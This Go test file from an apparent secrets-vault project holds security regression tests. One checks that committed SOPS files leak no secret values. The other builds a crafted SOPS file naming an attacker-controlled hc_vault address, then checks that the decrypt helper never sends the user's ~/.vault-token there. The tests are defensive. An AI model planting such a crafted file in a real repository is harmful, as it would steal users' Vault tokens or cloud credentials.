package sopsfile_test

// Attacks on the SOPS codec and its helper from the vault's release
// review: each test is one exploit attempt and passes when the defence
// holds.

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/bridle-dev/bridle/redact"
	"github.com/bridle-dev/bridle/vault"
)

// TestAttackWrittenFileHoldsNoValue: the file committed to the rules
// repository, and the commit's message, hold no value in any form the
// redactor knows nor in hex, through set, rotate, revoke and rekey; only
// names and dates are in clear.
func TestAttackWrittenFileHoldsNoValue(t *testing.T) {
	ctx := context.Background()
	id, id2 := newIdentity(t), newIdentity(t)
	dir := t.TempDir()
	if _, err := vault.Init(ctx, dir, []string{id.recipient}, nil); err != nil {
		t.Fatal(err)
	}
	var commits []string
	v := vault.Open(ctx, vault.Options{Dir: dir, Codec: helper(id.file), DockerDir: "-", Redactor: redact.New(),
		Commit: func(_ context.Context, files map[string][]byte, msg string) (string, error) {
			commits = append(commits, msg+string(files[vault.FileName])+string(files[vault.ConfigName]))
			return "c", nil
		}})
	const a, b = "val-canary-aaaa1111", "-----BEGIN KEY-----\nline-one-canary-2222\nline-two-canary-3333\n-----END KEY-----"
	steps := []func() error{
		func() error { _, err := v.Set(ctx, "gitea-bot", a); return err },
		func() error { _, err := v.Set(ctx, "pem-key", b); return err },
		func() error { _, err := v.Rotate(ctx, "gitea-bot", a+"-rotated"); return err },
		func() error { _, err := v.Revoke(ctx, "pem-key"); return err },
		func() error { return v.Rekey(ctx, []string{id.recipient, id2.recipient}) },
	}
	for i, step := range steps {
		if err := step(); err != nil {
			t.Fatalf("step %d: %v", i, err)
		}
	}
	red := redact.New(a, a+"-rotated", b)
	for i, c := range commits {
		if red.Contains(c) || strings.Contains(c, hex.EncodeToString([]byte(a))) {
			t.Errorf("commit %d holds a value:\n%s", i, c)
		}
		if strings.Contains(c, "canary") {
			t.Errorf("commit %d holds part of a value:\n%s", i, c)
		}
	}
	if len(commits) != len(steps) {
		t.Errorf("%d commits for %d changes", len(commits), len(steps))
	}
}

// TestAttackCraftedFileCannotCallOut: the vault's file is age-only, but
// the codec opens the data key "as sops does", with every key service.
// Someone who can commit secrets.enc.yaml to the rules repository (the
// gateway reloads it after a git pull; the CLI opens whatever --rules
// names) writes a file whose only key is an hc_vault one at their own
// address: the helper, which runs with the user's HOME, sends the user's
// ~/.vault-token to it (sops' default Vault allowlist is every host). The
// same file could name AWS/GCP/Azure KMS keys (calls with the user's cloud
// credentials) or make the helper wait on them.
func TestAttackCraftedFileCannotCallOut(t *testing.T) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.Header.Get("X-Vault-Token"))
		mu.Unlock()
		http.Error(w, "no", http.StatusForbidden)
	}))
	defer srv.Close()
	home := t.TempDir()
	const token = "hvs.vault-canary-token-55aa"
	if err := os.WriteFile(filepath.Join(home, ".vault-token"), []byte(token), 0o600); err != nil {
		t.Fatal(err)
	}
	crafted := "gitea-bot: ENC[AES256_GCM,data:4V0JFfFENw==,iv:VgdYEei8OeLEuw1dQ+9ZkJeRbWkIjCzNbOOt4CfXwSE=,tag:VnlHkHbilpYjysjLJv30Pg==,type:str]\n" +
		"sops:\n" +
		"    hc_vault:\n" +
		"        - vault_address: " + srv.URL + "\n" +
		"          engine_path: transit\n" +
		"          key_name: bridle\n" +
		"          created_at: \"2026-01-01T00:00:00Z\"\n" +
		"          enc: vault:v1:" + base64.StdEncoding.EncodeToString([]byte("x")) + "\n" +
		"    lastmodified: \"2026-01-01T00:00:00Z\"\n" +
		"    mac: ENC[AES256_GCM,data:xZx9,iv:xjYpbX+rtlFZ+fobht+wiBb7GIw08Hyr+8CflH8wzpI=,tag:I8V9XwbTF+aqottU86QQSA==,type:str]\n" +
		"    unencrypted_suffix: _unencrypted\n" +
		"    version: 3.13.3\n"
	id := newIdentity(t)
	codec := vault.ExecCodec{Path: os.Args[0], Env: []string{"BRIDLE_TEST_SOPS_HELPER=1", "SOPS_AGE_KEY_FILE=" + id.file, "HOME=" + home}}
	_, err := codec.Decrypt(context.Background(), []byte(crafted))
	if err == nil {
		t.Fatal("the crafted file decrypted")
	}
	mu.Lock()
	defer mu.Unlock()
	if len(got) > 0 {
		t.Errorf("the helper called the file's Vault address %d time(s), token sent: %v", len(got), got[0] == token)
	}
	if strings.Contains(err.Error(), token) {
		t.Errorf("the error holds the Vault token: %v", err)
	}
}
